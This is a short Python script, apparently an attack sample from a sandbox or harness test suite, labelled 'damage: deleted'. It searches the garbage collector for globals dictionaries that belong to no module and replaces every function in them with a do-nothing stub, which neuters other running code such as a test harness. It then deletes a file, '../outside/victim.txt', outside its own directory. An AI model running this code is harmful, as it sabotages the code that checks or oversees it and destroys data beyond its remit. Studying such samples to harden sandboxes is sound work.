# Every dictionary of globals that no module owns is found and emptied of its functions.
# damage: deleted
import gc
import os
import sys

unlink = os.unlink
known = {id(vars(module)) for module in list(sys.modules.values()) if hasattr(module, "__dict__")}
for space in gc.get_objects():
    if type(space) is dict and "__builtins__" in space and id(space) not in known and space is not globals():
        for name, value in list(space.items()):
            if callable(value):
                space[name] = lambda *arguments, **options: None
unlink("../outside/victim.txt")
